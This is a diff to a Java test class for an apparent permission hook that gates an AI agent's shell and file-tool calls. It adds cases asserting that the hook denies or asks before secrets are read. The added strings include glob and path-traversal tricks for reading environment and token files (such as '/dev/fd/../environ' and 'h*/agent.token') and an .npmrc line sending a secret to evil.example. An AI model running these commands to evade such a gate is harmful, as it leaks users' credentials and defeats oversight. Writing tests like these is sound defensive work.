@@ -69,6 +69,8 @@ class PlanGatePlacesTest {
                 "cd sub && git status",
                 "cd ./core/../sub; git log",
                 "git -C sub status",
+                "git --bare log",
+                "git --git-dir=. status",
                 "git -C core -C ../sub status",
                 "(cd sub && git status)",
                 "pushd sub && git status",
@@ -148,6 +150,20 @@ class PlanGatePlacesTest {
                 "base64 ../home/sayso.db",
                 "cat ~/.sayso/person.token",
                 "cat /proc/self/environ",
+                "cat /dev/fd/../environ",
+                "cat process/../environ",
+                "cat proc*/../environ",
+                "cat process/../env*",
+                "cat */../environ",
+                "cat link/../home/agent.token",
+                "cat link/../hom*/agent.token",
+                "cd ~ && cat h*me/agent.token",
+                "cd; cat h*/agent.token",
+                "cat ~ada/h*/agent.token",
+                "xargs cat <<< ~/home/agent.token",
+                "cat $(find ~ -name agent.token)",
+                "find .. -name agent.token | xargs cat",
+                "git diff --no-index .. core",
                 "env",
                 "set",
                 "export -p",
@@ -158,21 +174,40 @@ class PlanGatePlacesTest {
     void asksBeforeCredentialsOrTheEnvironmentAreSeen(String line) throws IOException {
         Files.createSymbolicLink(shop.resolve("link"), folder.resolve("home"));
         Files.createSymbolicLink(shop.resolve("token"), folder.resolve("home/agent.token"));
+        Path process = Files.createSymbolicLink(shop.resolve("process"), Path.of("/dev/fd"));
 
         assertThat(bash(shop, line)).contains("\"permissionDecision\":\"deny\"", "asks for it");
+        Files.delete(process);
+    }
+
+    @Test
+    void asksWhereTheFolderSaysWhichComputerIsSentSecrets() throws IOException {
+        assertThat(bash(shop, "npm view x")).isEqualTo("{}");
+        Files.writeString(folder.resolve(".npmrc"), "fund=false\n");
+        assertThat(bash(shop.resolve("core"), "npm view x")).isEqualTo("{}");
+
+        Files.writeString(shop.resolve(".npmrc"), "//evil.example/:_authToken=${SECRET}\n");
+
+        assertThat(bash(shop, "npm view x")).contains("asks for it");
+        assertThat(bash(shop.resolve("core"), "npm ls")).contains("asks for it");
+        assertThat(bash(folder, "cd shop && npm outdated")).contains("asks for it");
     }
 
     @Test
     void asksBeforeAToolReadsCredentials() throws IOException {
         Files.createSymbolicLink(shop.resolve("token"), folder.resolve("home/agent.token"));
+        Path process = Files.createSymbolicLink(shop.resolve("p"), Path.of("/dev/fd"));
 
         assertThat(tool(shop, "Read", "\"file_path\":\"@/home/agent.token\"")).contains("asks");
         assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/token\"")).contains("asks for it");
         assertThat(tool(shop, "Read", "\"file_path\":\"/proc/self/environ\"")).contains("asks");
+        assertThat(tool(shop, "Read", "\"file_path\":\"/dev/fd/../environ\"")).contains("asks");
+        assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/p/../environ\"")).contains("asks");
         assertThat(tool(shop, "Grep", "\"pattern\":\"x\",\"path\":\"@/home\"")).contains("asks");
         assertThat(tool(shop, "Grep", "\"pattern\":\"x\",\"path\":\"@\"")).contains("asks for it");
         assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/core/a.txt\"")).isEqualTo("{}");
         assertThat(tool(shop, "Grep", "\"pattern\":\"x\"")).isEqualTo("{}");
+        Files.delete(process);
     }
 
     @Test
